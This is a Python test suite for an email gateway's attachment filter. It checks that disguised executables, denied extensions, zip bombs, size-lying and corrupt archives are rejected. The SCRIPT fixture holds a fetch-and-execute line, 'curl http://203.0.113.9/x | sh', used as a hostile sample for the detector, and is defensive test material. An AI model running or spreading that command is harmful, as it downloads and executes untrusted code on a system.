"""attachments: real types from libmagic, deny lists, disguise, one level into zips."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import pytest

from tests.content_helpers import make_message, run_cli, run_engine, zipped

SENDER = "partner@example.org"
RCPT = "nguyenvana@dienbien.gov.vn"
POLICY = {"attachments": {}}


def pe_executable() -> bytes:
    """A minimal PE32 image: MZ header pointing at a PE signature and COFF header."""
    dos = b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80) + bytes(0x40)
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    optional = struct.pack("<H", 0x10B) + bytes(0xE0 - 2)
    return dos + b"PE\0\0" + coff + optional + bytes(512)


PE = pe_executable()
ELF = Path("/bin/true").read_bytes()
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"


async def codes(raw: bytes, **options: object) -> tuple[str, list[str], list]:
    tx, out = await run_engine({"attachments": options}, raw, SENDER, [RCPT])
    return out["data"].outcome, [d.finding.code for d in tx.decisions], tx.decisions


def one(name: str, data: bytes, ctype: str = "application/octet-stream") -> bytes:
    return make_message(SENDER, RCPT, attachments=[(name, data, ctype)])


async def test_executable_named_pdf_is_disguised():
    action, found, decisions = await codes(one("report.pdf", PE, "application/pdf"))
    assert action == "reject"
    assert found == ["attachments.type_denied", "attachments.disguised"]
    d = decisions[1].finding
    assert d.article == "Điều 7.5" and d.reply_code == 554
    assert "report.pdf" in d.en and "portable-executable" in d.details["real_type"]


async def test_script_declared_as_text_is_disguised():
    action, found, _ = await codes(one("notes", SCRIPT, "text/plain"))
    assert action == "reject"
    assert found == ["attachments.type_denied", "attachments.disguised"]


async def test_elf_without_claim_is_denied_not_disguised():
    action, found, decisions = await codes(one("tool", ELF))
    assert action == "reject" and found == ["attachments.type_denied"]
    assert decisions[0].finding.details["real_type"].startswith("application/x-")


async def test_denied_extension_whatever_the_content():
    action, found, _ = await codes(one("hoa-don.pdf.exe", PDF, "application/pdf"))
    assert action == "reject" and found == ["attachments.extension_denied"]


async def test_trailing_dot_does_not_hide_extension():
    _, found, _ = await codes(one("setup.exe. ", PE))
    assert "attachments.extension_denied" in found


@pytest.mark.parametrize("name,data,ctype", [
    ("bao-cao.pdf", PDF, "application/pdf"),
    ("ghi-chu.txt", "Xin chào\n".encode(), "text/plain"),
    ("tai-lieu.zip", zipped({"a.txt": b"hello", "b.pdf": PDF}), "application/zip"),
    ("bang.docx", zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
])
async def test_harmless_attachments_accepted(name, data, ctype):
    action, found, _ = await codes(one(name, data, ctype))
    assert (action, found) == ("accept", [])


async def test_executable_inside_zip():
    action, found, decisions = await codes(one("tai-lieu.zip", zipped({"doc/setup.exe": PE})))
    assert action == "reject"
    assert found == ["attachments.type_denied", "attachments.extension_denied"]
    assert "tai-lieu.zip" in decisions[0].finding.en
    assert decisions[0].finding.details["archive"] == "tai-lieu.zip"


async def test_disguised_inside_zip():
    _, found, _ = await codes(one("anh.zip", zipped({"anh.jpg": PE})))
    assert found == ["attachments.type_denied", "attachments.disguised"]


async def test_zip_not_opened_when_disabled():
    action, found, _ = await codes(one("a.zip", zipped({"setup.exe": PE})),
                                   inspect_archives=False)
    assert (action, found) == ("accept", [])


async def test_zip_bomb_stopped_by_real_bytes():
    bomb = zipped({"zeros.bin": bytes(8 * 1024 * 1024)})  # ~8 KB on the wire
    assert len(bomb) < 20_000
    action, found, decisions = await codes(one("bomb.zip", bomb), max_archive_bytes=1024 * 1024)
    assert action == "reject" and found == ["attachments.archive_limits"]


def lie_about_size(data: bytes, declared: int) -> bytes:
    """Rewrite the uncompressed size in the local and central headers of a one-member zip."""
    buf = bytearray(data)
    local = buf.find(b"PK\x03\x04")
    buf[local + 22:local + 26] = struct.pack("<I", declared)
    central = buf.find(b"PK\x01\x02")
    buf[central + 24:central + 28] = struct.pack("<I", declared)
    return bytes(buf)


async def test_zip_declaring_small_sizes_is_not_trusted():
    liar = lie_about_size(zipped({"zeros.bin": bytes(4 * 1024 * 1024)}), 100)
    with zipfile.ZipFile(io.BytesIO(liar)) as zf:
        assert zf.infolist()[0].file_size == 100  # what it claims
    action, found, _ = await codes(one("liar.zip", liar), max_archive_bytes=1024 * 1024)
    # zipfile stops at the declared size and the CRC then fails: never a silent pass
    assert (action, found) == ("reject", ["attachments.archive_corrupt"])


async def test_too_many_entries():
    many = zipped({f"f{i}.txt": b"x" for i in range(20)})
    _, found, decisions = await codes(one("many.zip", many), max_archive_entries=10)
    assert found == ["attachments.archive_limits"]
    assert "20 members" in decisions[0].finding.en


def encrypt_flag(data: bytes) -> bytes:
    """Mark every member encrypted (bit 0 of the general purpose flags), as a real one is."""
    buf = bytearray(data)
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = buf.find(sig)
        while i != -1:
            buf[i + offset] |= 1
            i = buf.find(sig, i + 4)
    return bytes(buf)


async def test_encrypted_zip_member_names_still_judged():
    enc = encrypt_flag(zipped({"hop-dong.exe": PE}))
    _, found, _ = await codes(one("mat-khau.zip", enc))
    assert found == ["attachments.extension_denied", "attachments.archive_encrypted"]


async def test_corrupt_zip_is_a_finding():
    data = zipped({"a.txt": b"hello world" * 100})
    broken = data[:40] + b"\xff" * 30 + data[70:]
    action, found, _ = await codes(one("hong.zip", broken))
    assert action == "reject" and found == ["attachments.archive_corrupt"]


async def test_action_from_config():
    _, _, decisions = await codes(one("report.pdf", PE, "application/pdf"),
                                  actions={"attachments.disguised": "log"})
    assert [d.action.value for d in decisions] == ["reject", "log"]


CLI_TOML = """
[server]
local_domains = ["dienbien.gov.vn"]
state_dir = "var"

[policies.attachments]
"""


def test_cli_executable_named_report_pdf(tmp_path):
    rc, out = run_cli(tmp_path, CLI_TOML, one("report.pdf", PE, "application/pdf"),
                      SENDER, [RCPT])
    assert rc == 1 and out["action"] == "reject"
    assert out["reply"].startswith("554")
    assert {f["code"] for f in out["findings"]} == {"attachments.type_denied",
                                                    "attachments.disguised"}
    assert all(f["article"] == "Điều 7.5" for f in out["findings"])


def test_cli_pdf_accepted(tmp_path):
    rc, out = run_cli(tmp_path, CLI_TOML, one("report.pdf", PDF, "application/pdf"),
                      SENDER, [RCPT])
    assert (rc, out["action"], out["findings"]) == (0, "accept", [])
